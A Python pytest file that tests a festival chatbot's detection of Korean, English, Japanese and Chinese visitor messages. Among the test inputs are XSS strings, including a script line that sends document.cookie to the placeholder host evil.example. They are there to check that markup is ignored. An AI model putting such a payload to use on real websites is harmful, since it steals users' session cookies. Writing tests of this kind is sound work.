"""The visitor's language from the scripts of a message, the session and the page's hint."""

from __future__ import annotations

import pytest

from bot.i18n.detect import Language, choose, detect, language_of


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("주차장 어디예요?", "ko"),
        ("wifi 비밀번호 알려줘", "ko"),  # Korean with an English word stays Korean
        ("셔틀버스 timetable 있어요?", "ko"),
        ("QR코드 어디서 받아요", "ko"),
        ("네", "ko"),
        ("where do I park my car?", "en"),
        ("Where is the 주차장?", "en"),  # an English sentence with one Korean word
        ("how much is a ticket for 2 adults 🙂", "en"),
        ("is https://mudfest.example/tickets the right page?", "en"),
        ("駐車場はどこですか", "ja"),
        ("チケットはいくら？", "ja"),
        ("停车场在哪里", "zh"),
        ("门票多少钱？", "zh"),
        ("ok", None),
        ("OK!!", None),
        ("👍", None),
        ("2", None),
        ("10:00?", None),
        ("https://mudfest.example/tickets", None),
        ("help@mudfest.example", None),
        ('/choose_faq{"faq_id":"parking-fee"}', None),
        ("/greet", None),  # a portal's tenant button greets in the visitor's language, not English
        ("<script>alert(1)</script> 주차 어디", "ko"),  # markup says nothing: the Korean question
        ('<img src="x" onerror="alert(1)">', None),
        ("<script>document.location='https://evil.example?c='+document.cookie</script>주차비", "ko"),
        ("", None),
    ],
)
def test_detect(text: str, expected: Language | None) -> None:
    assert detect(text) == expected


def test_han_only_text_is_japanese_in_a_japanese_conversation() -> None:
    assert detect("駐車場", previous="ja") == "ja"
    assert detect("駐車場", previous="en") == "zh"
    assert detect("駐車場") == "zh"


@pytest.mark.parametrize(
    ("text", "session", "hint", "expected"),
    [
        ("ok", "en", None, "en"),  # too short to tell: the session's language
        ("👍", "ja", "ko-KR", "ja"),
        ("ok", None, "en-US", "en"),  # no session yet: the page's language
        ("ok", None, "fr-FR", "ko"),  # a language the bot does not speak: Korean
        ("ok", None, None, "ko"),
        ("주차장 어디예요?", "en", "en-US", "ko"),  # the message's own language wins
        ("hello", None, "ko", "en"),
        ("入口", None, "ja-JP", "ja"),
    ],
)
def test_choose(text: str, session: Language | None, hint: str | None, expected: Language) -> None:
    assert choose(text, session, hint) == expected


@pytest.mark.parametrize(
    ("hint", "expected"),
    [
        ("en", "en"),
        ("en-US", "en"),
        ("zh_Hant_TW", "zh"),
        ("JA", "ja"),
        ("de", None),
        ("", None),
        (None, None),
    ],
)
def test_language_of(hint: str | None, expected: Language | None) -> None:
    assert language_of(hint) == expected
